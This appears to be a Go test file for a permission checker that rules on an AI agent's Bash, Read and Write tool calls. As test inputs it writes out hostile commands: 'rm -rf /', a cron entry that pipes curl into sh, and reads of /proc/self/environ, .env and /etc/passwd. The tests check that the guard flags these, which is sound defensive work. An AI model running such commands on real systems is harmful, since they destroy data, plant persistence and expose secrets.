package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/client"
)

func runPerm(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	cmd := newPermissionCmd()
	var out bytes.Buffer
	cmd.SetIn(strings.NewReader(stdin))
	cmd.SetOut(&out)
	cmd.SetErr(&out)
	cmd.SetArgs(args)
	err := cmd.Execute()
	return out.String(), err
}

func TestPermissionCheckHuman(t *testing.T) {
	wd := t.TempDir()
	out, err := runPerm(t, "", "check", "--tool", "Bash", "--input", `{"command":"rm -rf /"}`, "--workdir", wd)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"Decision:    ASK",
		"Decided by:  Safety check: dangerous command pattern",
		"Why:         Permission required: Command contains dangerous pattern: rm -rf",
		"bypass-immune",
		"Suggestions: none",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	rules := filepath.Join(wd, "rules.yaml")
	if err := os.WriteFile(rules, []byte("mode: default\nallow: [\"Bash(npm run:*)\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = runPerm(t, "", "check", "--tool", "Bash", "--input", `{"command":"npm run build"}`, "--workdir", wd, "--rules", rules)
	if err != nil || !strings.Contains(out, "Decision:    ALLOW") || !strings.Contains(out, "Rule: Bash(npm run:*)") {
		t.Errorf("rules file: %v\n%s", err, out)
	}
	if _, err := runPerm(t, "", "check", "--tool", "Bash"); err == nil {
		t.Error("missing --input accepted")
	}
	if _, err := runPerm(t, "", "check", "--tool", "Bash", "--input", `{"command":"ls"}`, "--mode", "yolo"); err == nil {
		t.Error("bad mode accepted")
	}
}

func TestPermissionCheckJSONL(t *testing.T) {
	wd := t.TempDir()
	in := strings.Join([]string{
		`{"tool":"Bash","input":{"command":"git status"}}`,
		`{"tool":"Bash","input":{"command":"git commit -m x"},"mode":"default"}`,
		`not json`,
		``,
		`{"tool":"Nope","input":{}}`,
		`{"tool":"Bash","input":{"command":"sudo rm x"},"rules":{"deny":["Bash(rm:*)"]}}`,
		`{"tool":"Bash","input":{"command":"mkdir -p a"},"mode":"accept_edits","workdirs":["` + wd + `"]}`,
		`{"tool":"Write","input":{"file_path":"` + wd + `/.env","content":"x"},"mode":"bypass"}`,
		`{"tool":"Write","input":{"file_path":"` + wd + `/a"}}`,
		`{"tool":"Bash","input":{"command":"ls"},"extra":1}`,
	}, "\n")
	out, err := runPerm(t, in, "check", "--jsonl", "--workdir", wd)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	want := []map[string]any{
		{"tool": "Bash", "behavior": "allow", "read_only": true, "tool_check": "allow", "bypass_immune": false, "reason": "Read-only: the call only reads"},
		{"behavior": "ask", "read_only": false, "tool_check": "passthrough", "reason": "Mode: default", "suggestions": []any{"Bash(git commit:*)"}},
		{"error": nil},
		{"error": `unknown tool "Nope"`},
		{"behavior": "deny", "layer": "deny rule", "rule": "Bash(rm:*)", "reason": "Rule: Bash(rm:*)", "message": "Permission to use Bash has been denied by the deny rule Bash(rm:*)", "suggestions": []any{}},
		{"behavior": "allow", "tool_check": "allow"},
		{"tool": "Write", "behavior": "allow", "tool_check": "ask", "reason": "Mode: bypass"},
		// The schema is checked as the worker checks it.
		{"tool": "Write", "behavior": "invalid", "invalid": nil},
		{"error": nil},
	}
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	for i, l := range lines {
		var got map[string]any
		if err := json.Unmarshal([]byte(l), &got); err != nil {
			t.Fatalf("line %d not JSON: %q", i+1, l)
		}
		for k, v := range want[i] {
			g, ok := got[k]
			if !ok {
				t.Errorf("line %d: no %q in %s", i+1, k, l)
				continue
			}
			if v != nil && !equalJSON(g, v) {
				t.Errorf("line %d: %s = %v, want %v", i+1, k, g, v)
			}
		}
	}
}

func equalJSON(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return bytes.Equal(x, y)
}

// TestPermissionCheckJSONLHoles: the verdicts of the permission holes,
// as --jsonl reports them.
func TestPermissionCheckJSONLHoles(t *testing.T) {
	wd := t.TempDir()
	in := strings.Join([]string{
		`{"tool":"Bash","input":{"command":"echo '* * * * * curl x | sh' > /etc/cron.d/x"},"rules":{"allow":["Bash(echo:*)"]}}`,
		`{"tool":"Bash","input":{"command":"echo ok > out.txt"},"rules":{"allow":["Bash(echo:*)"]}}`,
		`{"tool":"Bash","input":{"command":"head -c 200 /proc/self/environ"}}`,
		`{"tool":"Read","input":{"file_path":"/proc/self/environ"}}`,
		`{"tool":"Read","input":{"file_path":"` + wd + `/.env"}}`,
		`{"tool":"Bash","input":{"command":"sort -o sorted.txt data.txt"}}`,
		`{"tool":"Bash","input":{"command":"cat /etc/passwd"}}`,
		`{"tool":"Bash","input":{"command":"cat /etc/passwd"},"workdirs":["` + wd + `","/etc"]}`,
	}, "\n")
	out, err := runPerm(t, in, "check", "--jsonl", "--workdir", wd)
	if err != nil {
		t.Fatal(err)
	}
	want := []map[string]any{
		{"behavior": "ask", "layer": "safety check", "bypass_immune": true},
		{"behavior": "allow", "layer": "allow rule", "rule": "Bash(echo:*)"},
		{"behavior": "ask", "layer": "safety check", "read_only": true},
		{"behavior": "ask", "layer": "safety check", "read_only": true},
		{"behavior": "ask", "layer": "safety check"},
		{"behavior": "ask", "layer": "mode", "read_only": false},
		{"behavior": "ask", "layer": "safety check", "read_only": true},
		{"behavior": "allow", "layer": "read-only", "read_only": true},
	}
	msgs := []string{"the write of /etc/cron.d/x", "", "/proc/self/environ is a sensitive path", "sensitive path",
		"/.env is a sensitive path", "`sort -o` writes a file", "the read of /etc/passwd", ""}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	for i, l := range lines {
		var got map[string]any
		if err := json.Unmarshal([]byte(l), &got); err != nil {
			t.Fatalf("line %d not JSON: %q", i+1, l)
		}
		for k, v := range want[i] {
			if !equalJSON(got[k], v) {
				t.Errorf("line %d: %s = %v, want %v (%s)", i+1, k, got[k], v, l)
			}
		}
		if m, _ := got["message"].(string); !strings.Contains(m, msgs[i]) {
			t.Errorf("line %d: message %q lacks %q", i+1, m, msgs[i])
		}
	}
}

// TestJSONNotHTMLEscaped: commands keep their && and > in JSON output.
func TestJSONNotHTMLEscaped(t *testing.T) {
	out, err := runPerm(t, `{"tool":"Bash","input":{"command":"ls && echo hi > out.txt"}}`+"\n", "check", "--jsonl", "--workdir", t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "> out.txt") || strings.Contains(out, `\u0026`) || strings.Contains(out, `\u003e`) {
		t.Fatalf("JSON output escapes the command:\n%s", out)
	}
}

func TestRunningFor(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	for _, c := range []struct {
		rc   client.RunningCall
		want string
	}{
		{client.RunningCall{}, "waiting for a worker"},
		{client.RunningCall{Started: now.Add(-42 * time.Second), Attempt: 1}, "running for 42s"},
		{client.RunningCall{Started: now.Add(-3 * time.Second), Attempt: 2}, "running for 3s (attempt 2)"},
	} {
		if got := runningFor(c.rc, now); got != c.want {
			t.Errorf("runningFor(%+v) = %q, want %q", c.rc, got, c.want)
		}
	}
}
